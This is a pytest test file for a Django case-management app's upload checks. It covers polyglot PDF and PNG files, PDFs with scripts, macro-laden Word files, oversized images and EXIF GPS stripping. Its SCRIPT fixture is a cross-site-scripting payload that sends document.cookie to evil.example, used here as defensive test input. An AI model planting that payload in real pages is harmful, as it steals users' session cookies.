"""Uploads are judged by parsing them, never by their first bytes (security finding 7).

Case attachments must parse as what their extension says and are then kept byte for byte;
photos of people are re-encoded from their pixels, so nothing else of the upload is stored.
"""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from salama.accounts.models import User
from salama.cases import services as cases
from salama.cases.models import Attachment, Case
from salama.cases.tests.test_services import make_case, make_person, principal
from salama.core import uploads
from salama.core.tests import samples
from salama.people import services as people
from salama.people.models import Person

pytestmark = pytest.mark.django_db

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SCRIPT = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
# A Windows executable's header and stub, behind a PDF header and before an end-of-file marker.
EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"This program cannot be run"


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Any) -> Any:
    settings.MEDIA_ROOT = str(tmp_path)
    return tmp_path


@pytest.fixture
def case(caseworker_a: User) -> Case:
    return make_case(caseworker_a)


def attach(user: User, case: Case, name: str, data: bytes, content_type: str) -> Attachment:
    return cases.add_attachment(
        actor=principal(user), case=case, upload=SimpleUploadedFile(name, data, content_type)
    )


def refused(user: User, case: Case, name: str, data: bytes, content_type: str) -> str:
    """The message an attachment is refused with; nothing may be stored."""
    with pytest.raises(ValidationError) as caught:
        attach(user, case, name, data, content_type)
    assert not Attachment.objects.exists()
    return " ".join(caught.value.message_dict["file"])


def set_photo(user: User, person: Person, name: str, data: bytes, content_type: str) -> bytes:
    """Upload a photo and return the bytes Salama stored (decrypted)."""
    people.set_photo(
        actor=principal(user),
        person=person,
        upload=SimpleUploadedFile(name, data, content_type=content_type),
    )
    return Person.objects.get(pk=person.pk).photo.read_plain()


# Case attachments ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + EXECUTABLE,
        b"%PDF-1.7\n" + EXECUTABLE + b"\n%%EOF\n",
        b"%PDF-1.4\n% a small test document\n",
    ],
    ids=["bare", "with-eof-marker", "header-only"],
)
def test_an_executable_starting_with_a_pdf_header_is_refused(
    caseworker_a: User, case: Case, data: bytes
) -> None:
    message = refused(caseworker_a, case, "passport.pdf", data, "application/pdf")
    assert "could not be read as a PDF" in message


def test_a_pdf_with_an_executable_appended_is_refused(caseworker_a: User, case: Case) -> None:
    data = samples.pdf_bytes() + EXECUTABLE * 100
    assert "could not be read as a PDF" in refused(
        caseworker_a, case, "statement.pdf", data, "application/pdf"
    )


@pytest.mark.parametrize("name", ["photo.png", "photo.jpg"])
def test_an_image_header_followed_by_a_script_is_refused(
    caseworker_a: User, case: Case, name: str
) -> None:
    header = b"\x89PNG\r\n\x1a\n" if name.endswith(".png") else b"\xff\xd8\xff\xe0"
    content_type = "image/png" if name.endswith(".png") else "image/jpeg"
    message = refused(caseworker_a, case, name, header + SCRIPT, content_type)
    assert "does not match its extension" in message


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("statement.pdf", samples.pdf_bytes(), "application/pdf"),
        ("scan.png", samples.png_bytes(), "image/png"),
        ("scan.jpg", samples.jpeg_bytes(), "image/jpeg"),
        ("scan.jpeg", samples.jpeg_bytes(), "application/octet-stream"),
        ("statement.docx", samples.docx_bytes(), DOCX_TYPE),
        ("notes.txt", samples.TEXT, "text/plain"),
    ],
)
def test_real_files_are_accepted_and_kept_byte_for_byte(
    caseworker_a: User, case: Case, name: str, data: bytes, content_type: str
) -> None:
    attachment = attach(caseworker_a, case, name, data, content_type)
    stored = Attachment.objects.get(pk=attachment.pk)
    assert stored.content_type == uploads.type_for_name(name, uploads.ATTACHMENT_TYPES)
    assert stored.file.read_plain() == data


@pytest.mark.parametrize("options", [{"javascript": True}, {"launch": True}, {"attachment": True}])
def test_a_pdf_with_scripts_launch_actions_or_embedded_files_is_refused(
    caseworker_a: User, case: Case, options: dict[str, bool]
) -> None:
    data = samples.pdf_bytes(**options)
    assert "Print it to a new PDF" in refused(
        caseworker_a, case, "form.pdf", data, "application/pdf"
    )


def test_a_pdf_too_large_to_walk_is_refused_with_what_to_do(
    caseworker_a: User, case: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A real one takes seconds to build and check; a lower cap shows the same refusal.
    monkeypatch.setattr(uploads, "_PDF_MAX_OBJECTS", 3)
    message = refused(caseworker_a, case, "report.pdf", samples.pdf_bytes(), "application/pdf")
    assert "too many parts" in message and "Split it" in message


def test_a_password_protected_pdf_is_refused_with_what_to_do(
    caseworker_a: User, case: Case
) -> None:
    data = samples.pdf_bytes(password="secret")
    assert "without the protection" in refused(
        caseworker_a, case, "locked.pdf", data, "application/pdf"
    )


@pytest.mark.parametrize(
    "data",
    [samples.docx_bytes(macros=True), samples.docx_bytes(main=samples.DOCM_MAIN)],
    ids=["vba-project", "renamed-docm"],
)
def test_a_word_document_with_macros_is_refused(
    caseworker_a: User, case: Case, data: bytes
) -> None:
    assert "macros" in refused(caseworker_a, case, "letter.docx", data, DOCX_TYPE)


def test_an_executable_with_a_word_document_appended_is_refused(
    caseworker_a: User, case: Case
) -> None:
    data = EXECUTABLE + samples.docx_bytes()
    assert "not a Word document" in refused(caseworker_a, case, "letter.docx", data, DOCX_TYPE)


def test_a_zip_that_is_not_a_word_document_is_refused(caseworker_a: User, case: Case) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.js", SCRIPT)
    assert "not a Word document" in refused(
        caseworker_a, case, "letter.docx", out.getvalue(), DOCX_TYPE
    )


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("Déclaration".encode("latin-1"), "not in UTF-8"),
        (b"text\x00with a NUL byte", "not plain text"),
    ],
)
def test_text_must_be_utf8_without_nul_bytes(
    caseworker_a: User, case: Case, data: bytes, expected: str
) -> None:
    assert expected in refused(caseworker_a, case, "notes.txt", data, "text/plain")


def test_extension_and_content_must_agree(caseworker_a: User, case: Case) -> None:
    message = refused(caseworker_a, case, "scan.png", samples.jpeg_bytes(), "image/png")
    assert "does not match its extension (.png)" in message


def test_declared_type_must_agree_with_the_file(caseworker_a: User, case: Case) -> None:
    message = refused(caseworker_a, case, "statement.pdf", samples.pdf_bytes(), "text/html")
    assert "sent as “text/html”" in message


def test_an_image_with_too_many_pixels_is_refused_before_decoding(
    caseworker_a: User, case: Case
) -> None:
    # Tens of kilobytes on disk, 56 million pixels once decoded.
    out = io.BytesIO()
    Image.new("1", (8000, 7000)).save(out, format="PNG")
    assert len(out.getvalue()) < 200_000
    message = refused(caseworker_a, case, "plan.png", out.getvalue(), "image/png")
    assert "8000 × 7000 pixels" in message


def test_a_truncated_image_is_refused(caseworker_a: User, case: Case) -> None:
    data = samples.jpeg_bytes((400, 300))
    assert "does not match" in refused(
        caseworker_a, case, "scan.jpg", data[: len(data) // 2], "image/jpeg"
    )


# Photos of people ------------------------------------------------------------------------------


@pytest.fixture
def person(caseworker_a: User) -> Person:
    return make_person(caseworker_a)


def test_a_png_header_followed_by_a_script_is_refused_as_a_photo(
    caseworker_a: User, person: Person
) -> None:
    upload = SimpleUploadedFile("me.png", b"\x89PNG\r\n\x1a\n" + SCRIPT, content_type="image/png")
    with pytest.raises(ValidationError, match="JPEG or PNG"):
        people.set_photo(actor=principal(caseworker_a), person=person, upload=upload)
    assert not Person.objects.get(pk=person.pk).photo


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("me.jpg", samples.jpeg_bytes((40, 30)), "image/jpeg"),
        ("me.png", samples.png_bytes((40, 30)), "image/png"),
        ("blob", samples.png_bytes((40, 30)), ""),
    ],
)
def test_real_photos_are_accepted(
    caseworker_a: User, person: Person, name: str, data: bytes, content_type: str
) -> None:
    stored = Image.open(io.BytesIO(set_photo(caseworker_a, person, name, data, content_type)))
    assert stored.size == (40, 30)
    assert stored.getpixel((20, 15)) == pytest.approx(
        Image.open(io.BytesIO(data)).getpixel((20, 15)), abs=8
    )


def test_a_jpeg_with_exif_gps_comes_back_without_any_exif(
    caseworker_a: User, person: Person
) -> None:
    original = samples.jpeg_bytes((64, 48), gps=True)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(samples.GPS_IFD)  # it has GPS
    data = set_photo(caseworker_a, person, "me.jpg", original, "image/jpeg")
    stored = Image.open(io.BytesIO(data))
    assert stored.format == "JPEG"
    assert "exif" not in stored.info and dict(stored.getexif()) == {}
    assert b"Exif" not in data and b"PhoneCam" not in data


def test_a_photo_is_turned_upright_and_shrunk_to_1600_pixels(
    caseworker_a: User, person: Person
) -> None:
    # Taken sideways (orientation 6: rotate 90° clockwise to view) at 3200 × 2400.
    original = samples.jpeg_bytes((3200, 2400), orientation=6)
    stored = Image.open(io.BytesIO(set_photo(caseworker_a, person, "me.jpg", original, "")))
    assert stored.size == (1200, 1600)
    assert dict(stored.getexif()) == {}


def test_a_png_with_trailing_data_is_re_encoded_without_it(
    caseworker_a: User, person: Person
) -> None:
    original = samples.png_bytes(
        (40, 30), mode="RGBA", color=(10, 20, 30, 128), text={"Comment": "Agadez"}, trailing=SCRIPT
    )
    data = set_photo(caseworker_a, person, "me.png", original, "image/png")
    assert SCRIPT not in data and b"Agadez" not in data
    assert data.endswith(b"IEND\xaeB`\x82")  # the image ends where its last chunk ends
    stored = Image.open(io.BytesIO(data))
    # Transparency is kept, so it stays a PNG.
    assert (stored.format, stored.mode, stored.size) == ("PNG", "RGBA", (40, 30))
    assert stored.getpixel((0, 0)) == (10, 20, 30, 128)


def test_an_opaque_png_with_trailing_data_is_stored_as_a_jpeg_without_it(
    caseworker_a: User, person: Person
) -> None:
    original = samples.png_bytes((40, 30), trailing=SCRIPT)
    data = set_photo(caseworker_a, person, "me.png", original, "image/png")
    assert SCRIPT not in data and Image.open(io.BytesIO(data)).format == "JPEG"


def test_a_photo_whose_extension_and_content_disagree_is_refused(
    caseworker_a: User, person: Person
) -> None:
    upload = SimpleUploadedFile("me.jpg", samples.png_bytes(), content_type="image/jpeg")
    with pytest.raises(ValidationError, match="could not be read as JPEG"):
        people.set_photo(actor=principal(caseworker_a), person=person, upload=upload)


def test_a_photo_of_another_type_is_refused_by_its_extension(
    caseworker_a: User, person: Person
) -> None:
    upload = SimpleUploadedFile("me.gif", b"GIF89a" + b"\x00" * 20, content_type="image/gif")
    with pytest.raises(ValidationError, match=r"\.jpg, \.jpeg or \.png"):
        people.set_photo(actor=principal(caseworker_a), person=person, upload=upload)
